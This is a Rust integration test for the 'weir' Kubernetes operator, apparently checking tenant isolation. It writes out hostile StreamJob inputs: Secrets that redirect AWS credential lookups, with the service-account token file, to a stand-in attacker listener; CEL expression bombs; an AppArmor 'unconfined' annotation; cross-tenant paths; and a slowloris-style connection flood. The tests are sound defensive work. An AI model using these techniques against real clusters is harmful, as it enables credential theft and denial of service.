//! A tenant stays in its namespace: each attack of a hostile StreamJob author, tried against a
//! real API server and the operator's own binary running as a separate process with
//! credentials of its own in its environment (`AWS_ACCESS_KEY_ID`...), as in a cluster. Each
//! is refused or reported naming the field, a listener standing for the attacker's endpoint
//! receives no connection, and the operator is still up at the end.

use std::collections::BTreeMap;
use std::io::Read;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use k8s_openapi::api::core::v1::{ConfigMap, Pod, Secret, Service};
use kube::api::{Api, Patch, PatchParams, PostParams};
use weir_crds::StreamJob;
use weir_e2e::apiserver::TestApiServer;
use weir_e2e::local_pods::{runtime_binary, LocalPod};

mod common;
use common::{counter_job, degraded, eventually, point_operator_at};

/// A listener standing for the attacker's endpoint: counts every connection it is offered.
struct Catcher {
    url: String,
    connections: Arc<AtomicUsize>,
}

impl Catcher {
    fn start() -> Catcher {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let connections = Arc::new(AtomicUsize::new(0));
        let counted = connections.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                let mut stream = stream;
                let mut head = [0u8; 4096];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let read = stream.read(&mut head).unwrap_or(0);
                eprintln!("catcher was sent: {}", String::from_utf8_lossy(&head[..read]));
            }
        });
        Catcher { url, connections }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// The operator's release binary as a separate process, with credentials of its own.
struct Operator {
    child: Child,
    log: tempfile::NamedTempFile,
}

impl Operator {
    fn start(server: &TestApiServer, storage: &std::path::Path) -> Operator {
        let log = tempfile::NamedTempFile::new().unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_weir-operator"))
            .arg("--kubeconfig")
            .arg(server.kubeconfig())
            .arg("--default-storage")
            .arg(storage)
            .args(["--http-addr", "127.0.0.1:0", "--status-refresh-secs", "1"])
            // The operator's own identity, which no tenant may borrow.
            .env("AWS_ACCESS_KEY_ID", "AKIAOPERATOROWNKEY")
            .env("AWS_SECRET_ACCESS_KEY", "operator-own-secret")
            .env("AWS_REGION", "us-east-1")
            .env("POD_NAMESPACE", "default")
            .env("WEIR_LOG", "info,weir_operator=debug")
            .env_remove("WEIR_OUT_OF_CLUSTER_CONTROL_URLS")
            .stdout(Stdio::null())
            .stderr(log.reopen().unwrap())
            .spawn()
            .expect("the operator binary starts");
        Operator { child, log }
    }

    fn assert_running(&mut self) {
        let exited = self.child.try_wait().unwrap();
        assert!(exited.is_none(), "the operator exited ({exited:?}); its log:\n{}", self.log());
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.log.path()).unwrap_or_default()
    }
}

impl Drop for Operator {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A StreamJob named `name` with `extra` spec lines (two-space indented) and `filter` as the
/// expression of its one operator.
fn job(name: &str, extra: &str, filter: &str) -> StreamJob {
    let text = format!(
        "apiVersion: weir.dev/v1alpha1\nkind: StreamJob\nmetadata: {{ name: {name} }}\n\
         spec:\n  image: weir-runtime:dev\n  parallelism: 1\n{extra}  job:\n    inline:\n      \
         sources: [ {{ name: events, uid: events,\n        \
           generator: {{ count: 10, fields: [ {{ name: k, modulo: 4 }} ] }} }} ]\n      \
         operators: [ {{ name: small, filter: {{ expr: {filter:?} }} }} ]\n      \
         sinks: [ {{ name: out, stdout: {{}} }} ]\n"
    );
    serde_yaml::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

fn secret(name: &str, keys: &[(&str, &str)]) -> Secret {
    Secret {
        metadata: kube::api::ObjectMeta { name: Some(name.into()), ..Default::default() },
        string_data: Some(keys.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()),
        ..Secret::default()
    }
}

/// A valid savepoint `_metadata` at `dir`, holding the generator's positions under `events`.
fn write_savepoint(dir: &std::path::Path) {
    std::fs::create_dir_all(dir).unwrap();
    let metadata = weir_checkpoint::CheckpointMetadata {
        format_version: weir_checkpoint::metadata::FORMAT_VERSION,
        checkpoint_id: 1,
        kind: weir_checkpoint::metadata::SnapshotKind::Savepoint,
        job_name: "victim".into(),
        epoch: 1,
        created_at_ms: 1,
        max_parallelism: 128,
        operators: BTreeMap::new(),
    };
    std::fs::write(dir.join("_metadata"), metadata.encode()).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn each_attack_of_a_hostile_tenant_is_refused_or_reported() {
    let ns = "tenant-a";
    let (server, client) = TestApiServer::with_namespace(ns).await.expect("API server with the CRD starts");
    let state = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let catcher = Catcher::start();
    let mut operator = Operator::start(&server, state.path());
    let pp = PostParams::default();
    let jobs: Api<StreamJob> = Api::namespaced(client.clone(), ns);
    let pods: Api<Pod> = Api::namespaced(client.clone(), ns);
    let secrets: Api<Secret> = Api::namespaced(client.clone(), ns);

    // Credential redirection: a Secret steering the S3 credential provider to the attacker's
    // listener, with the operator's service-account token as the "authorization token" file.
    secrets
        .create(
            &pp,
            &secret(
                "redirect-keys",
                &[
                    ("AWS_CONTAINER_CREDENTIALS_FULL_URI", &catcher.url),
                    ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                    ("AWS_REGION", "us-east-1"),
                ],
            ),
        )
        .await
        .unwrap();
    let steer =
        "  checkpointing: { storage: \"s3://tenant-bucket/weir\", credentialsSecret: { name: redirect-keys } }\n  \
                 initialSavepoint: s3://tenant-bucket/weir/sp-1-1\n";
    jobs.create(&pp, &job("redirect", steer, "k < 2")).await.unwrap();
    // An endpoint only: mixed with the operator's own keys, the operator would sign requests
    // for the attacker's listener.
    secrets
        .create(&pp, &secret("endpoint-only", &[("AWS_ENDPOINT", &catcher.url), ("AWS_ALLOW_HTTP", "true")]))
        .await
        .unwrap();
    let endpoint =
        "  checkpointing: { storage: \"s3://tenant-bucket/weir\", credentialsSecret: { name: endpoint-only } }\n  \
                    initialSavepoint: s3://tenant-bucket/weir/sp-1-1\n";
    jobs.create(&pp, &job("endpoint", endpoint, "k < 2")).await.unwrap();

    // Unbounded input: a 200 KB expression (from a ConfigMap: the CRD bounds inline ones) and
    // 100 nested parentheses.
    let huge = vec!["k"; 100_000].join("+");
    let bomb: ConfigMap = serde_yaml::from_str(&format!(
        "metadata: {{ name: bomb }}\ndata:\n  job.yaml: |\n    name: x\n    \
         sources: [ {{ name: events, uid: events,\n      \
           generator: {{ count: 10, fields: [ {{ name: k, modulo: 4 }} ] }} }} ]\n    \
         operators: [ {{ name: f, filter: {{ expr: \"{huge} > 0\" }} }} ]\n    \
         sinks: [ {{ name: out, stdout: {{}} }} ]\n"
    ))
    .unwrap();
    Api::<ConfigMap>::namespaced(client.clone(), ns).create(&pp, &bomb).await.unwrap();
    let from_bomb: StreamJob = serde_yaml::from_str(
        "apiVersion: weir.dev/v1alpha1\nkind: StreamJob\nmetadata: { name: cel-bomb }\n\
         spec: { image: weir-runtime:dev, parallelism: 1, job: { configMapRef: { name: bomb } } }",
    )
    .unwrap();
    jobs.create(&pp, &from_bomb).await.unwrap();
    let parens = format!("{}k{} < 2", "(".repeat(100), ")".repeat(100));
    jobs.create(&pp, &job("parens", "", &parens)).await.unwrap();
    // Inline, the API server itself refuses what is over the CRD's bound, naming the field.
    let refused = jobs.create(&pp, &job("inline-bomb", "", &huge)).await.unwrap_err().to_string();
    assert!(refused.contains("spec.job.inline.operators[0].filter.expr") && refused.contains("4096"), "{refused}");

    // Reaching past RBAC within the namespace: a label that puts the pod behind a sibling's
    // Service, an AppArmor annotation, and a name taken by a Service of someone else's.
    let labels = "  podTemplate: { labels: { weir.dev/job: victim } }\n";
    jobs.create(&pp, &job("labels", labels, "k < 2")).await.unwrap();
    let apparmor =
        "  podTemplate: { annotations: { container.apparmor.security.beta.kubernetes.io/runtime: unconfined } }\n";
    jobs.create(&pp, &job("apparmor", apparmor, "k < 2")).await.unwrap();
    let foreign: Service = serde_yaml::from_str(
        "metadata: { name: collide-control, labels: { team: other } }\n\
         spec: { selector: { app: other }, ports: [ { port: 80 } ] }",
    )
    .unwrap();
    Api::<Service>::namespaced(client.clone(), ns).create(&pp, &foreign).await.unwrap();
    jobs.create(&pp, &job("collide", "", "k < 2")).await.unwrap();

    // Paths across tenants: another namespace's savepoint (it exists), the same kind of path
    // that does not exist, and local paths outside the namespace's root.
    write_savepoint(&state.path().join("tenant-b/victim/savepoints/sp-1-1"));
    let other = state.path().join("tenant-b/victim/savepoints/sp-1-1");
    let missing = state.path().join("tenant-b/victim/savepoints/sp-9-9");
    jobs.create(&pp, &job("other-ns", &format!("  initialSavepoint: {}\n", other.display()), "k < 2")).await.unwrap();
    jobs.create(&pp, &job("other-ns-missing", &format!("  initialSavepoint: {}\n", missing.display()), "k < 2"))
        .await
        .unwrap();
    let planted = tempfile::tempdir().unwrap();
    let planted_dir = planted.path().join("made-by-operator");
    let local = format!("  checkpointing: {{ storage: {} }}\n", planted_dir.display());
    jobs.create(&pp, &job("local-path", &local, "k < 2")).await.unwrap();

    // The control-url annotation, in cluster: a running job pointing the operator (and its
    // token) at the attacker's listener.
    let mut pointed = job("pointed", "", "k < 2");
    pointed.metadata.annotations = Some(BTreeMap::from([("weir.dev/control-url".to_string(), catcher.url.clone())]));
    jobs.create(&pp, &pointed).await.unwrap();

    // Refused or reported, naming the field; nothing deployed.
    let expect = [
        (
            "redirect",
            "ForbiddenCredentials",
            "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE, AWS_CONTAINER_CREDENTIALS_FULL_URI",
        ),
        ("endpoint", "ReconcileFailed", "no S3 credentials"),
        ("cel-bomb", "InvalidJob", "CEL expression of 200003 bytes is too long"),
        (
            "parens",
            "InvalidJob",
            "spec.job.inline.operators[0].filter.expr: CEL expression of 205 bytes is too deeply nested",
        ),
        ("labels", "InvalidJob", "spec.podTemplate.labels.weir.dev/job: is reserved"),
        (
            "apparmor",
            "InvalidJob",
            "spec.podTemplate.annotations.container.apparmor.security.beta.kubernetes.io/runtime",
        ),
        ("collide", "NameConflict", "Service `collide-control` already exists and is not owned by this StreamJob"),
        ("other-ns", "StorageNotAllowed", "spec.initialSavepoint: "),
        ("local-path", "StorageNotAllowed", "spec.checkpointing.storage (the job's root): "),
    ];
    for (name, reason, expected) in expect {
        let message = degraded(&jobs, name, reason).await;
        assert!(message.contains(expected), "{name}: expected `{expected}` in `{message}`");
        assert!(!message.contains("operator-own") && !message.contains("AKIAOPERATOR"), "{name}: {message}");
        assert!(pods.get_opt(&format!("{name}-runtime-0")).await.unwrap().is_none(), "{name}: a pod was created");
    }
    // A path of another tenant is refused before it is read: the answer is the same whether
    // it exists or not, and says nothing of what it holds.
    let existing = degraded(&jobs, "other-ns", "StorageNotAllowed").await;
    let absent = degraded(&jobs, "other-ns-missing", "StorageNotAllowed").await;
    assert_eq!(existing.replace("sp-1-1", "sp-X"), absent.replace("sp-9-9", "sp-X"));
    assert!(!existing.contains("_metadata") && !existing.contains("savepoint or checkpoint"), "{existing}");
    // Nothing was created from a path a job named.
    assert!(!planted_dir.exists(), "the operator created {}", planted_dir.display());
    // The foreign Service is untouched: not adopted, not overwritten.
    let service = Api::<Service>::namespaced(client.clone(), ns).get("collide-control").await.unwrap();
    assert!(service.metadata.owner_references.is_none(), "{:?}", service.metadata.owner_references);
    assert_eq!(service.spec.unwrap().selector.unwrap()["app"], "other");

    // The pointed job runs (its pod set Running by hand: no kubelet here); the operator reads
    // its status every second by cluster DNS, never at the annotation's address.
    let pod =
        eventually("the pointed job's pod", 40, || async { pods.get_opt("pointed-runtime-0").await.unwrap() }).await;
    let running = serde_json::json!({ "status": { "phase": "Running" } });
    pods.patch_status(&pod.metadata.name.unwrap(), &PatchParams::default(), &Patch::Merge(running)).await.unwrap();
    eventually("the pointed job Running", 30, || async {
        let phase = jobs.get("pointed").await.unwrap().status.and_then(|s| s.phase);
        (phase == Some(weir_crds::streamjob::Phase::Running)).then_some(())
    })
    .await;
    // Three status reads of the pointed job (one a second), each at the in-cluster name, none
    // at the annotation's address: the operator logs each failed read.
    let reads_in_cluster = |log: &str| {
        log.lines()
            .filter(|l| l.contains("job status not readable") && l.contains("pointed-control.tenant-a.svc"))
            .count()
    };
    eventually("three status reads of the pointed job", 30, || async {
        (reads_in_cluster(&operator.log()) >= 3).then_some(())
    })
    .await;

    assert_eq!(catcher.connections(), 0, "the attacker's listener was reached; operator log:\n{}", operator.log());
    operator.assert_running();
}

/// The control API of a runtime deployed by the operator (the real runtime, run as a local
/// process from the pod the operator made): a runtime given an empty token refuses to start;
/// it serves TLS with the certificate the operator issued for the job; and slow clients holding
/// every connection, sending a handshake byte now and then, are cut off while the operator goes
/// on reading the job's status.
#[tokio::test(flavor = "multi_thread")]
async fn the_runtimes_control_api_refuses_an_empty_token_and_outlasts_slow_clients() {
    use std::io::Write;
    let binary = runtime_binary();
    assert!(binary.exists(), "{} missing: cargo test --workspace builds it", binary.display());
    let ns = "tenant-c";
    let (_server, client) = TestApiServer::with_namespace(ns).await.expect("API server with the CRD starts");
    let state = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let out = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let settings = weir_operator::controller::Settings {
        status_refresh: Duration::from_secs(1),
        control_url_annotation: true,
        ..weir_operator::controller::Settings::new(state.path().display().to_string())
    };
    let controller = tokio::spawn(weir_operator::controller::run(client.clone(), settings));
    let jobs: Api<StreamJob> = Api::namespaced(client.clone(), ns);
    let pods: Api<Pod> = Api::namespaced(client.clone(), ns);
    // 4,000 records a second: it runs for the whole test.
    let job = counter_job(2_000_000, out.path(), "  checkpointing: { interval: 1s }");
    jobs.create(&PostParams::default(), &job).await.unwrap();
    let pod = eventually("the pod", 30, || async { pods.get_opt("counter-runtime-0").await.unwrap() }).await;

    // The pod's own command, with its token file emptied: refused at start, saying why.
    let mut args = pod.spec.as_ref().unwrap().containers[0].args.clone().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let job_file = scratch.path().join("job.yaml");
    let job_text = Api::<ConfigMap>::namespaced(client.clone(), ns).get("counter-job").await.unwrap().data.unwrap();
    std::fs::write(&job_file, &job_text["job.yaml"]).unwrap();
    let empty = scratch.path().join("token");
    std::fs::write(&empty, "\n").unwrap();
    let secret = Api::<Secret>::namespaced(client.clone(), ns).get("counter-control-token").await.unwrap();
    let data = secret.data.unwrap();
    assert!(data["tls.crt"].0.starts_with(b"-----BEGIN CERTIFICATE-----") && !data["tls.key"].0.is_empty());
    for key in ["tls.crt", "tls.key"] {
        std::fs::write(scratch.path().join(key), &data[key].0).unwrap();
    }
    let mut set = |flag: &str, value: String| {
        let at = args.iter().position(|a| a == flag).unwrap_or_else(|| panic!("{flag} in {args:?}")) + 1;
        args[at] = value;
    };
    set("run", job_file.display().to_string());
    set("--token-file", empty.display().to_string());
    set("--control-addr", "127.0.0.1:0".into());
    set("--checkpoint-dir", scratch.path().join("storage").display().to_string());
    set("--termination-log", scratch.path().join("termination-log").display().to_string());
    set("--tls-cert-file", scratch.path().join("tls.crt").display().to_string());
    set("--tls-key-file", scratch.path().join("tls.key").display().to_string());
    let refused = Command::new(&binary).args(&args).output().unwrap();
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success() && said.contains("token is empty"), "{:?}: {said}", refused.status);

    // The runtime as deployed, and the operator reading its status.
    let mut local = LocalPod::start(&client, &pod, &binary).await.unwrap();
    point_operator_at(&jobs, "counter", &local.control_url).await;
    let running = || async {
        let status = jobs.get("counter").await.unwrap().status?;
        (status.phase == Some(weir_crds::streamjob::Phase::Running)).then_some(status)
    };
    eventually("Running", 30, running).await;
    let checkpoint = || async {
        let status = jobs.get("counter").await.unwrap().status?;
        status.latest_checkpoint.map(|c| c.id)
    };
    let first = eventually("a checkpoint in status", 30, checkpoint).await;

    // Served over TLS with the certificate the operator issued: the operator reads the status
    // through it, pinned to that certificate.
    assert!(local.control_url.starts_with("https://"), "{}", local.control_url);

    // More slow clients than connection slots, each sending the start of a TLS handshake (a
    // record header announcing 512 bytes) and then a byte every half second.
    let addr = local.control_url.split_once("://").unwrap().1.to_string();
    let slots = 64 + 8;
    let slow: Vec<std::net::TcpStream> = (0..slots)
        .map(|_| {
            let mut s = std::net::TcpStream::connect(&addr).unwrap();
            s.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00]).unwrap();
            s
        })
        .collect();
    let dripping = std::thread::spawn(move || {
        let mut slow = slow;
        let mut open = slow.len();
        let until = std::time::Instant::now() + Duration::from_secs(45);
        while open > 0 && std::time::Instant::now() < until {
            open = 0;
            for s in &mut slow {
                open += usize::from(s.write_all(&[0]).is_ok());
            }
            std::thread::sleep(Duration::from_millis(500));
        }
        open
    });
    // The operator still sees the job move on: a newer checkpoint reaches its status, read
    // through the control API the slow clients try to hold (once the header timeout cuts them).
    eventually("a newer checkpoint in status", 60, || async { checkpoint().await.filter(|id| *id > first) }).await;
    assert_eq!(dripping.join().unwrap(), 0, "every slow connection was cut off");
    assert!(local.reap().await.unwrap().is_none(), "the runtime is still running; its log:\n{}", local.log());
    local.kill();
    controller.abort();
}
